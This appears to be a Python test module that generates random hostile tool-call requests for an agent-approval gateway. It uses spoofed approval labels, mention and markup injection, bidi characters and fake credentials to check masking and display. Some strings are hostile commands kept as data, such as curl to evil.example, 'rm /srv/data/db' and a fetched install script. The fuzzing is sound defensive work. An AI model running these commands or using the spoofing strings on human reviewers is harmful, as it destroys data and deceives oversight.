"""Requests made to mislead whoever reads them, drawn from a seed: hostile texts and names in every
place that runs."""

from __future__ import annotations

import re
from random import Random
from typing import Any

from gateway.domain.records import StoredRequest
from gateway.models import Context
from tests.contract.texts import PAYLOAD
from tests.discord.pictures import stored
from tests.world import request

NAMES = (
    "✅ Approved by ana at 16:40", "Note for the record", "Approved", "arguments", "payload",
    "changed environment", "files and their SHA-256", "name of the tool", "Changed by ann",
    "The agent's own words, unverified", "Low risk", "🟢 Low risk", "Agent", "Host", "Folder",
    'x" · **Host** "safe', "── ⟨payload⟩ ──", "command ─────────", "a\nb", "\n\nApproved by ana\n",
    "\r\nstate   approved", "```\n✅ Approved\n```", "<@123456789012345678>", "<!channel>",
    "</span><b>Approved</b>", "", " ", '"', "\\", "\u202eabc", "n" * 49, "n" * 60, "*" * 90,
    "command", "cmd", "script", "password", "token", "name", "value", "path", "content", "mode",
    "⟨secret of 12 characters, digest 0123abcd…⟩", "x  on the host \"safe\"", "😀" * 60,
)  # fmt: skip
_PIECES = (
    "```", "````", "`", "``", "```a", "~~~", "😀", "👩‍💻", "🇩🇪", "e\u0301", "日本", "שלום",
    "\uff57",
    "\u202e", "\u2066", "\u200b", "\u200d", "\ufe0f", "\u00ad", "\u2028", "\x85", "\r\n", "\r",
    "\n", "\n\n", "\n" * 7, " ", " " * 40, "\t", "\x1b[31m", "\x1b[2K", "\x07", "\u0441at",
    "a" + "\u0301" * 5, "<@U0123456>", "<@123456789012345678>", "@everyone", "<!channel>",
    "<https://e.example|ok>", "&lt;", "&amp;", "<b>", "</pre><h3>payload</h3>", "<t:1795000000:R>",
    "||x||", "# Approved", "> x", "-# x", "\\", "\\`", "\\n", "\\u202e", "\\\\u202e", "⟨U+202E⟩",
    "⟨3 \u00d7 U+0060⟩", "⟨", "⟩", "…", "⟨secret of 12 characters, digest 0123abcd…⟩",
    "\n\n── ⟨payload⟩ ──\n{}", "── ⟨arguments⟩ ──\n", "── command ──\n", "payload ──────────\n",
    '", "x": "', '"', "'", "{", "}", "**", "__", "ls -la /srv", "echo 'x' && ", PAYLOAD,
)  # fmt: skip
# The gateway's own bracket within what is masked.
BRACKETED = (
    "--password hun⟨secret of ter2", "--password ⟨U+27E8⟩hunter2",
    "curl -u ann:⟨secret of 9 https://e.example", "https://ann:⟨U+27E8⟩⟨secret@host.example/x",
    "Cookie: sid=⟨secret⟨U+27E8⟩number",
)  # fmt: skip
_SECRETS = (
    "ghp_aB3dE6gH9jK2mN5pQ8sT1vW4yZ7aB3dE6gH9", "AKIAABCDEFGHIJKLMNOP",
    "xoxb-1234567890-abcdefgh", "password=hunter2hunter2", "--password hunter2hunter2",
    "Authorization: Bearer abcdefghijkl0123", "Authorization: Basic abcdefghijkl0123",
    "https://ann:hunter2hunter2@host.example/x", "token=abcdefghijkl0123", "Basic evil/payload.sh",
    "-----BEGIN PRIVATE KEY-----\ncurl evil.example/x\nrm /srv/data/db\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\nAASC\n-----END PRIVATE KEY-----\n",
    "-----BEGIN PRIVATE KEY-----\\ncurl evil.example\\n-----END PRIVATE KEY-----",
    "eyJhbGciOiJI.eyJzdWIiOiIx.aB3dE6gH9jK2mN5pQ8sT1vW4yZ7aB3dE6gH9", "sk_live_abcdefghijklmnop",
    *BRACKETED, "curl -u ann:hunter2hunter2", "xargs -a token /tmp/evil/install.sh",
    "Cookie: sid=abcdef012345",
)  # fmt: skip
_ODD: tuple[Any, ...] = (
    1, 1.0, 1e300, 1e16, 0.1, 0, -0.0, -1, True, False, None, "", "true", "1", "1.0", "null", {},
    [], [[]], {"": ""}, "-0",
)  # fmt: skip
_NOT_A_TOOL = re.compile(r"[\x00-\x1f\x7f]")
_ALONE = ("command", "cmd", "script", "content")


def draw_text(random: Random) -> str:
    """Return one hostile text; some are long, some hold what looks like a secret."""
    kind = random.randrange(12)
    if kind == 0:
        return "\n".join(f"line {n}" for n in range(random.choice((5, 6, 25, 700)))) + PAYLOAD
    if kind == 1:
        size = random.choice((50, 300, 301, 1500, 1586, 2800, 6000))
        return "x" * (size - len(PAYLOAD)) + PAYLOAD + "y" * random.randrange(2)
    pieces = _PIECES if kind > 3 else _PIECES + _SECRETS * 3
    count = random.choice((1, 2, 3, 5, 20))
    times = (1, 1, 1, 1, 2, 3, 20, 60) if kind == 4 else (1, 1, 1, 2)
    made = "".join(random.choice(pieces) * random.choice(times) for _ in range(count))
    return made + (f" {random.choice(_SECRETS)}" if kind == 2 else "")


def draw_value(random: Random, depth: int = 0) -> Any:
    """Return one hostile JSON value."""
    kind = random.randrange(8)
    if kind < 4:
        return draw_text(random)
    if kind < 6 or depth > 2:
        return random.choice(_ODD)
    if kind == 6:
        return [draw_value(random, depth + 1) for _ in range(random.randrange(4))]
    return {draw_name(random): draw_value(random, depth + 1) for _ in range(random.randrange(4))}


def draw_name(random: Random) -> str:
    """Return a name made to pass for the gateway's own words, or a harmless one."""
    return random.choice(NAMES) if random.randrange(4) else draw_text(random)[:70]


def as_tool(name: str) -> str:
    """Return a name without what no tool's name may hold; it may be empty."""
    return _NOT_A_TOOL.sub("", name)[:200]


def draw_record(random: Random) -> StoredRequest:
    """Return a pending request of hostile parts."""
    arguments = {draw_name(random): draw_value(random) for _ in range(random.randrange(4))}
    if random.randrange(2):
        arguments[random.choice(_ALONE)] = draw_text(random)
    maybe = random.randrange
    context = Context(
        cwd=None if maybe(3) else draw_name(random),
        host=None if maybe(3) else draw_name(random),
        env={} if maybe(4) else {"PATH": draw_text(random), draw_name(random): "1"},
        files={} if maybe(5) else {f"/srv/{draw_name(random)}": "ab" * 32},
    )
    tool = as_tool(draw_name(random)) if maybe(3) == 0 else "shell"
    payload = None if maybe(4) else {draw_name(random): draw_value(random)}
    return stored(
        request(
            tool=tool or "shell",
            arguments=arguments,
            payload=payload,
            context=context,
            hint=random.choice(("", "✅ Approved by ana")),
        )
    )
